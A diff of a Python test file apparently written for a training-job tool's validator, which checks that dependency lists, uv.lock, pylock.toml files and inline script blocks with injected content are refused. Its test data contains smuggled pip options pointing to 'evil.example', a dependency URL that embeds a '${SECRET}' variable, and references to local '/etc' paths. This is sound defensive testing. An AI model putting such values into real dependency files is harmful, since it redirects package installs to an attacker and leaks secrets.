@@ -7,15 +7,20 @@ import re
 from pathlib import Path
 from typing import NamedTuple
 
+import packaging
 import pytest
+from packaging.version import Version
 
 import cloudtrain as ct
 from cloudtrain import api
 from cloudtrain.errors import JobError
-from tests.locks import LOCK, OWN, PROJECT, SETTINGS, lock, package
+from cloudtrain.lifecycle.preparing.prepare import Ready
+from tests.locks import LOCK, OWN, PROJECT, PYPI, SETTINGS, lock, package
 
 HASH = "0a" * 32
 EVIL = "--index-url https://evil.example/simple"
+MARKERS_OF_LOCKS = "" if Version(packaging.__version__) >= Version("25") else "CT056"
+"""An older packaging does not know them, so a line with one is refused."""
 
 
 class Case(NamedTuple):
@@ -62,6 +67,29 @@ def pylock(entry: str, code: str = "CT056", place: str = "line ") -> Case:
     return Case("pylock.toml", {"pylock.toml": text}, code, place)
 
 
+ARCHIVE = f'sdist = {{name = "x-1.tar.gz", hashes = {{sha256 = "{HASH}"}}}}'
+BLOCK = '# /// script\n# dependencies = ["tqdm"]\n# ///\n'
+LONG = f"x = '{'y' * 25_000}'\n"
+
+
+def archive(hashes: str = f'sha256 = "{HASH}"') -> str:
+    """A package of a pylock.toml with an archive."""
+    return f'name = "x"\nversion = "1"\nsdist = {{name = "x-1.tar.gz", hashes = {{{hashes}}}}}'
+
+
+def wheel(tags: str) -> str:
+    """A package of a pylock.toml with one wheel."""
+    file = f'{{name = "x-1-{tags}.whl", hashes = {{sha256 = "{HASH}"}}}}'
+    return f'name = "x"\nversion = "1"\nwheels = [{file}]'
+
+
+def windows(name: str) -> Case:
+    """A uv.lock of one package, of which only this wheel exists."""
+    case = changed("https://files/tqdm.whl", f"https://files/{name}", "CT058", "`tqdm`")
+    text = re.sub("(?m)^sdist = .*\n", "", str(case.files["uv.lock"]))
+    return case._replace(files={**case.files, "uv.lock": text})
+
+
 DEEP = f"deep = {'[' * 3000}{']' * 3000}\n"
 SDIST = "74" * 32
 """The hash of tqdm's archive in a lock of `tests.locks`."""
@@ -86,11 +114,11 @@ CASES: dict[str, Case] = {
     "a marker that is none": pip("tqdm; evil == 'x'\n", "CT056"),
     "a marker that is not closed": pip("tqdm; (os_name == 'posix'\n", "CT056"),
     "a marker without an answer": pip("tqdm\nnumpy; os_name ~= 'x'\n", "CT056", 2),
-    "a marker of locks": pip("tqdm; 'x' in extras\n"),
+    "a marker of locks": pip("tqdm; 'x' in extras\n", MARKERS_OF_LOCKS),
     "a null byte": pip("tqdm\nx\0\n", "CT056", 2),
     "a line separator": pip(f"tqdm\u2028{EVIL}\n", "CT056"),
     "a form feed": pip(f"tqdm\f{EVIL}\n", "CT056"),
-    "a next line of ISO 6429": pip(f"# a\x85{EVIL}\ntqdm\x85\n", "CT056", 2),
+    "a next line of ISO 6429": pip(f"# a\x85{EVIL}\ntqdm\n", "CT056"),
     "a vertical tab": pip(f"tqdm\x0b{EVIL}\n", "CT056"),
     "UTF-16": pip("tqdm\n".encode("utf-16"))._replace(code="CT054", place="not UTF-8"),
     "Latin-1": pip("# é\ntqdm\n".encode("latin-1"))._replace(code="CT054", place="not UTF-8"),
@@ -135,6 +163,8 @@ CASES: dict[str, Case] = {
     "deep nesting": changed("version = 1\n", f"version = 1\n{DEEP}", place="`uv.lock`"),
     "a project that is nested": Case("uv.lock", {"uv.lock": LOCK, "pyproject.toml": OWN + DEEP}, "CT056", "`pyproject.toml`"),
     "a source that nobody knows": uv(place="`tqdm`", source='oci = "https://h/x"'),
+    "wheels for Windows in a uv.lock": windows("tqdm-1-py3-none-win_amd64.whl"),
+    "wheels for another Python in a uv.lock": windows("tqdm-1-cp311-cp311-manylinux_2_28_x86_64.whl"),
     # blocks of scripts
     "a text of dependencies": Case("train.py", {"train.py": '# /// script\n# dependencies = "tqdm"\n# ///\n'}, "CT056", "`train.py`"),
     "an index of uv in a block": Case(
@@ -146,9 +176,45 @@ CASES: dict[str, Case] = {
     "an option in a block": block(f'"tqdm {EVIL}"'),
     "a line in a marker": block(f"\"tqdm; os_name != 'a\\n{EVIL}'\""),
     "a block that is nested": block(f'"tqdm"]\n# {DEEP}# x = ["a"', place="`train.py`"),
+    "a variable in a block": block('"tqdm @ https://evil.example/${SECRET}"'),
+    "a variable of the machine in a marker": block("\"tqdm; os_name != '${SECRET}'\""),
+    "a file of the machine in a block": block('"tqdm @ file:///etc/x"'),
+    "a path in a block": block('"tqdm @ ../x"'),
+    "a repository of the machine in a block": block('"tqdm @ git+file:///etc/x"'),
+    "a wheel without a version in a block": block('"tqdm @ https://h/x.whl"', place="train.py"),
+    "a repository in a block": block('"tqdm @ git+https://h/x@main"', "", ""),
+    "two blocks": Case("train.py", {"train.py": f"{BLOCK}\n{BLOCK}"}, "CT056", "`train.py`"),
+    "two blocks below each other": Case("train.py", {"train.py": BLOCK * 2}, "CT056", "`train.py`"),
+    "three blocks with code between": Case("train.py", {"train.py": f"x = 1\n{BLOCK}x = 2\n" * 3}, "CT056", "`train.py`"),
+    "a block of another type": Case("train.py", {"train.py": f"{BLOCK}\n{BLOCK.replace('script', 'other')}"}),
+    "a late block": Case("train.py", {"train.py": LONG + BLOCK.replace("tqdm", "-evil")}, "CT056", "`train.py`"),
+    "a late block without its end": Case("train.py", {"train.py": LONG + BLOCK[:-6]}, "CT056", "`train.py`"),
+    "a block that a comment continues": Case("train.py", {"train.py": f"{BLOCK}# more\n# ///\n"}, "CT056", "`train.py`"),
     # pylock.toml
-    "a version of a pylock.toml": pylock(f'name = "x"\nversion = "1\\n{EVIL}"'),
-    "a hash of a pylock.toml": pylock(f'name = "x"\nversion = "1"\nwheels = [{{hashes = {{sha256 = "{EVIL}"}}}}]'),
+    "only SHA-512": pylock(archive(f'sha512 = "{HASH * 2}"'), "", ""),
+    "only SHA-384": pylock(archive(f'sha384 = "{HASH[:32] * 3}"'), "", ""),
+    "a short SHA-512": pylock(archive('sha512 = "evil"')),
+    "wheels for Windows": pylock(wheel("cp312-cp312-win_amd64"), "CT058", "`x`"),
+    "wheels for another processor": pylock(wheel("cp312-cp312-manylinux_2_28_aarch64"), "CT058", "`x`"),
+    "wheels for another Python": pylock(wheel("cp311-cp311-manylinux_2_28_x86_64"), "CT058", "`x`"),
+    "no archive": pylock('name = "x"\nversion = "1"', "CT058", "`x`"),
+    "a stable wheel": pylock(wheel("cp39-abi3-manylinux_2_28_x86_64"), "", ""),
+    "two versions in a pylock.toml": pylock(f"{archive()}\n[[packages]]\n{archive()}", "CT058", "`x`"),
+    "two versions of one name": pylock(f"{archive()}\n[[packages]]\n{archive().replace('x', 'X', 2)}", "CT058", "`x`"),
+    "two versions for one system each": pylock(f"{archive()}\nmarker = \"os_name == 'nt'\"\n[[packages]]\n{archive()}", "", ""),
+    "a torch twice": pylock("[[packages]]\n".join([archive().replace("x", "torch", 1).replace('"1"', '"2.13.0"') + "\n"] * 2), "CT058", "`torch`"),
+    "a package for another Python in a pylock.toml": pylock(f'{archive()}\nrequires-python = ">=3.99"', "CT058", "`x`"),
+    "a pylock.toml for another Python": Case(
+        "pylock.toml", {"pylock.toml": f'lock-version = "1.0"\nrequires-python = "<3.12"\n[[packages]]\n{archive()}\n'}, "CT058", "`pylock.toml`",
+    ),
+    "a pylock.toml for other systems": Case(
+        "pylock.toml", {"pylock.toml": f"lock-version = \"1.0\"\nenvironments = [\"os_name == 'nt'\"]\n[[packages]]\n{archive()}\n"}, "CT058", "`pylock.toml`",
+    ),
+    "a pylock.toml for no certain Python": Case(
+        "pylock.toml", {"pylock.toml": f'lock-version = "1.0"\nrequires-python = "evil"\n[[packages]]\n{archive()}\n'}, "CT056", "`pylock.toml`",
+    ),
+    "a version of a pylock.toml": pylock(f'name = "x"\nversion = "1\\n{EVIL}"\n{ARCHIVE}'),
+    "a hash of a pylock.toml": pylock(f'name = "x"\nversion = "1"\nwheels = [{{name = "x-1-py3-none-any.whl", hashes = {{sha256 = "{EVIL}"}}}}]'),
     "a repository of a pylock.toml": pylock(f'name = "x"\nvcs = {{type = "git", url = "https://h/x {EVIL}", commit-id = "0123abcd"}}'),
     "another program of a pylock.toml": pylock('name = "x"\nvcs = {type = "evil", url = "https://h/x", commit-id = "0123abcd"}'),
     "a later pylock.toml": Case("pylock.toml", {"pylock.toml": 'lock-version = "2.0"\n'}, "CT056", "version 2.0"),
@@ -158,16 +224,14 @@ CASES: dict[str, Case] = {
 }  # fmt: skip
 
 LINE = re.compile(
-    r"#.*|--(?:extra-)?index-url https://\S+|-[cr] [\w./-]+|[\w.-]+==[\w.+]+(?: --hash=sha256:[0-9a-f]{64})*"
+    r"#.*|--(?:extra-)?index-url https://\S+|-[cr] [\w./-]+|[\w.-]+==[\w.+]+(?: --hash=sha(?:256|384|512):[0-9a-f]{64,128})*"
+    r"|tqdm(?: @ git\+https://h/x@main)?"
 )
 """A line of a list that cloudtrain writes."""
 
 
-@pytest.mark.parametrize("name", CASES)
-def test_no_foreign_text_enters_a_list(clean_environment: Path, name: str) -> None:
-    """A file is refused with its code and place and without the word that is hidden in it, or it is harmless."""
-    case = CASES[name]
-    folder = clean_environment
+def ready(folder: Path, case: Case) -> Ready:
+    """The case as a job for SageMaker."""
     for path, text in {"train.py": "", "cloudtrain.toml": SETTINGS, **case.files}.items():
         (folder / path).parent.mkdir(parents=True, exist_ok=True)
         (folder / path).write_bytes(text.encode() if isinstance(text, str) else text)
@@ -176,11 +240,17 @@ def test_no_foreign_text_enters_a_list(clean_environment: Path, name: str) -> No
     job = ct.TrainingJob(
         name="own", entry_point="train.py", environment=environment, resources=machine
     )
-    where = api._where(job, "sagemaker", None)
+    return api._prepare(job, api._where(job, "sagemaker", None), (), None)
+
+
+@pytest.mark.parametrize("name", CASES)
+def test_no_foreign_text_enters_a_list(clean_environment: Path, name: str) -> None:
+    """A file is refused with its code and place and without the word that is hidden in it, or it is harmless."""
+    case = CASES[name]
     problems = []
     written = {}
     try:
-        written = api._prepare(job, where, (), None).tree.own_files
+        written = ready(clean_environment, case).tree.own_files
     except JobError as error:
         problems = error.problems
     assert [problem.code for problem in problems][:1] == ([case.code] if case.code else [])
@@ -191,3 +261,34 @@ def test_no_foreign_text_enters_a_list(clean_environment: Path, name: str) -> No
         if path.endswith(".txt") and isinstance(content, bytes) and path != case.named:
             for line in content.decode().splitlines():
                 assert LINE.fullmatch(line), line
+
+
+def two(*, archives: bool = False, source: str = PYPI) -> Case:
+    """A uv.lock of two packages. The second one has archives on request."""
+    numpy = package("numpy", "2.5.5", source=source, archives=archives)
+    text = lock(['name = "tqdm"', 'name = "numpy"'], [package("tqdm", "4.67.1"), numpy])
+    own = PROJECT.format(dependencies='"tqdm", "numpy"')
+    return Case("uv.lock", {"uv.lock": text, "pyproject.toml": own})
+
+
+UNHASHED = 'wheels = [\n    { url = "https://files/numpy.whl" },\n]\n'
+WITHOUT_HASHES = {
+    "an index without hashes": (two(source=f"{PYPI} }}\n{UNHASHED}x = {{ y = 1"), True),
+    "a repository": (two(source='git = "https://h/x?rev=main#0123abcd"'), True),
+    "another algorithm": (
+        pylock(f"{archive()}\n[[packages]]\n{archive('md5 = 1').replace('x', 'numpy', 2)}"),
+        True,
+    ),
+    "hashes of all": (two(archives=True), False),
+    "hashes of none": (block('"tqdm", "numpy"'), False),
+}
+"""Locks in which a package lacks hashes, and whether others have some."""
+
+
+@pytest.mark.parametrize("name", WITHOUT_HASHES)
+def test_a_plan_says_that_no_hash_is_checked(clean_environment: Path, name: str) -> None:
+    """pip checks the hashes of all packages or of none, so one package without them is named."""
+    case, is_named = WITHOUT_HASHES[name]
+    notes = [note for note in ready(clean_environment, case).draft.notes if "hash" in note]
+    assert len(notes) == is_named
+    assert all("numpy" in note and "tqdm" not in note for note in notes)
